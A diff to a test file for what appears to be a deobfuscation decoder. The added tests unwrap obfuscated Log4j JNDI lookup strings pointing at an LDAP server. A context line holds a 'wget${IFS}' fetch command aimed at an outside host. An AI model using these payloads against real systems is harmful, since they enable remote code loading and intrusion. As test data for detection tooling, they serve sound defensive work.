@@ -85,6 +85,15 @@ describe('each decoder alone', () => {
   });
 });
 
+describe('Log4j lookups', () => {
+  it('spell out ${lower:}, ${upper:} and :- defaults, nested ones a round each', () => {
+    const hidden = '${${lower:J}ndi:${::-l}${env:NaN:-d}ap://198.51.100.5:1389/a}';
+    expect(decodeLayers(hidden)).toContain('${jndi:ldap://198.51.100.5:1389/a}');
+    expect(decodeLayers('${jndi:${lower:l}${lower:d}a${lower:p}://example.com/a}'))
+      .toEqual(['${jndi:ldap://example.com/a}']);
+  });
+});
+
 describe('layers', () => {
   it('decode recursively: base64 of URL-encoding of shell tricks', () => {
     const inner = encodeURIComponent('wget${IFS}http://198.51.100.9/b');
